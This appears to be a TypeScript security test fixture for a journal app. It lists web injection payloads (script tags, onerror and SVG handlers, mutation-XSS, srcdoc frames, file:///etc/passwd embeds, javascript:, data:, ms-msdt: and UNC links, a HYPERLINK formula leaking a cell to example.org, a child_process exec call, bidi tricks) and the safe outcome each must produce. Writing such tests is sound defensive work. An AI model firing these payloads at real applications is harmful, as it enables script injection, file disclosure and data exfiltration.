// What is written, pasted or brought in and would run elsewhere: in every text the journal has.

import type { Attack } from './attack.ts';

const ran = `window.ran = true; document.title = 'run'`;

/** Planted in every text field there is: title, names, review, reflection, clipping, list, note. */
export const texts: readonly Attack<string, 'shown as text'>[] = [
  ...(
    [
      ['script', `<script>${ran}</script>`, 'markup'],
      ['script of another origin', '<script src="https://example.org/x.js"></script>', 'markup'],
      ['image that fails', `<img src=x onerror="${ran}; require('child_process').exec('id')">`, 'markup'],
      ['remote image', '<img src="https://example.org/x.png">', 'markup'],
      ['remote style', '<link rel=stylesheet href="https://example.org/x.css">', 'markup'],
      [
        'style that imports',
        '<style>@import "https://example.org/x.css"; *{background:url(//example.org)}</style>',
        'markup',
      ],
      ['style attribute', '<b style="background:url(https://example.org/x.png)">x</b>', 'a style that fetches'],
      [
        'SVG with script',
        `<svg onload="${ran}"><script>${ran}</script><use href="https://example.org/x.svg#x"/></svg>`,
        'markup',
      ],
      ['mutation', `<svg><style></svg><iframe srcdoc="<script>parent.ran = true</script>">`, 'markup'],
      [
        'mathematics',
        `<math><mtext><table><mglyph><style><img src=x onerror="${ran}"></style></mglyph></table></mtext></math>`,
        'markup',
      ],
      ['frame', '<iframe src="https://example.org/"></iframe>', 'markup'],
      ['frame of a file', '<iframe src="file:///etc/passwd"></iframe>', 'markup'],
      ['refresh', '<meta http-equiv="refresh" content="0; url=https://example.org/">', 'markup'],
      ['base', '<base href="https://example.org/">', 'markup'],
      ['form', '<form action="https://example.org/" method=post><button autofocus>go</button></form>', 'markup'],
      [
        'embed and object',
        '<embed src="file:///etc/passwd"><object data="https://example.org/x.swf"></object>',
        'markup',
      ],
      ['webview', '<webview src="https://example.org/" nodeintegration></webview>', 'markup'],
      ['template', `<template shadowrootmode=open><script>${ran}</script></template>`, 'markup'],
      ['handler without markup', `" autofocus onfocus="${ran}" x="`, 'a handler'],
      ['direction turned', 'Slow \u202eediT\u202c \u2066x\u2069', 'control characters'],
      ['formula', `=HYPERLINK("https://example.org/?"&A1,"x")`, 'a formula'],
      ['formula of a full-width sign', '\uff1d1+1', 'a formula'],
    ] as const
  ).map(([name, input, mark]) => ({
    name,
    where: 'every text',
    input,
    mustHold: 'shown as text' as const,
    logs: new RegExp(`kept as text: entry\\.log \\([^)]*${mark}`),
  })),
];

const link = (name: string, address: string, scheme: string): Attack<string, 'no link'> => ({
  name,
  where: 'a link of a review',
  input: address,
  mustHold: 'no link',
  logs: new RegExp(`refused a link \\(${scheme}\\)`),
});

/** Written as `[words](<address>)`, `![words](<address>)` and `<address>`; then asked of the shell directly. */
export const links: readonly Attack<string, 'no link'>[] = [
  link('javascript:', `javascript:${ran}`, 'javascript:'),
  link('javascript: in other letters', `JaVaScRiPt:${ran}`, 'javascript:'),
  link('javascript: after a colon by name', `JaVaScRiPt&colon;${ran}`, 'no scheme'),
  link('javascript: with a tab within', `java\tscript:${ran}`, 'no scheme'),
  link('javascript: after control characters', `\u0001 javascript:${ran}`, 'no scheme'),
  link('javascript: that looks like http', 'javascript://example.org/%0Awindow.ran=true', 'javascript:'),
  link('data:', 'data:text/html,<script>window.ran=true</script>', 'data:'),
  link('data: of an SVG', 'data:image/svg+xml,<svg onload="window.ran=true"/>', 'data:'),
  link('vbscript:', 'vbscript:run', 'vbscript:'),
  link('a file', 'file:///etc/passwd', 'file:'),
  link('a file, the other way round', 'file:\\\\server\\share\\x.exe', 'file:'),
  link('UNC', '\\\\server\\share\\x.exe', 'no scheme'),
  link('smb:', 'smb://server/share', 'smb:'),
  link('ms-msdt:', 'ms-msdt:/id PCWDiagnostic', 'ms-msdt:'),
  link('search-ms:', 'search-ms:query=x&crumb=location:\\\\server\\share', 'search-ms:'),
  link('ms-officecmd:', 'ms-officecmd:{}', 'ms-officecmd:'),
  link('another program', 'vscode://file/etc/passwd', 'vscode:'),
  link('post', 'mailto:someone@example.org', 'mailto:'),
  link('blob:', 'blob:https://example.org/1', 'blob:'),
  link('our own page', 'app://afterimage/index.html', 'app:'),
  link('the inspector', 'devtools://devtools/bundled/inspector.html', 'devtools:'),
  link('without a scheme', '//example.org/', 'no scheme'),
  link('a place of the page', '#/trash', 'no scheme'),
  link('a name before the host', 'https://example.com@example.org/', 'https:'),
  link('a name and a word before the host', 'https://someone:secret@example.org/', 'https:'),
];

/** Shown and asked about by its real name, opened only then. */
export const offered: readonly Attack<string, { href: string; says: RegExp }>[] = [
  {
    name: 'https',
    where: 'a link of a review',
    input: 'https://example.org/fine',
    mustHold: { href: 'https://example.org/fine', says: /Open example\.org in your browser\?/ },
    logs: null,
  },
  {
    name: 'http, which others can read along',
    where: 'a link of a review',
    input: 'http://example.org/plain',
    mustHold: { href: 'http://example.org/plain', says: /not encrypted/ },
    logs: null,
  },
  {
    name: 'letters that look like others',
    where: 'a link of a review',
    input: 'https://аpple.example/',
    mustHold: { href: 'https://xn--pple-43d.example/', says: /Open xn--pple-43d\.example in/ },
    logs: null,
  },
  {
    name: 'a number for a host',
    where: 'a link of a review',
    input: 'https://2130706433/',
    mustHold: { href: 'https://127.0.0.1/', says: /Open 127\.0\.0\.1 in/ },
    logs: null,
  },
  {
    name: 'a host far to the right of one that is none',
    where: 'a link of a review',
    input: `https://example.com.${'a'.repeat(40)}.example.org/${'x'.repeat(600)}`,
    mustHold: {
      href: `https://example.com.${'a'.repeat(40)}.example.org/${'x'.repeat(600)}`,
      says: /Open example\.com\.a{40}\.example\.org in/,
    },
    logs: null,
  },
];
